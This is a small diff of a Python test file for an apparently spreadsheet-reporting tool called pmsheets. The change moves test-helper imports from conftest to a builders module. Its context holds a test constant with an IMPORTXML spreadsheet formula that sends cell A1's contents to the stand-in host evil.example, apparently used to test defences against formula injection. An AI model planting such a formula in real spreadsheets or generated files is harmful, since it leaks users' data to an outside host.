@@ -24,8 +24,8 @@ from pmsheets.outputs.mail import Outgoing, build_message, tls_context
 from pmsheets.outputs.report_render import render
 from pmsheets.register.google_session import EndpointSession
 from sheets_emulator import DEFAULT_EMAIL, SheetsEmulator
+from tests.builders import AS_OF, action_row, incident_row, tables, write_workbook
 from tests.cli_helpers import run
-from tests.conftest import AS_OF, action_row, incident_row, tables, write_workbook
 
 FORMULA = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")'
 INCIDENT_COLUMN = FINDINGS_HEADERS.index("Incident")
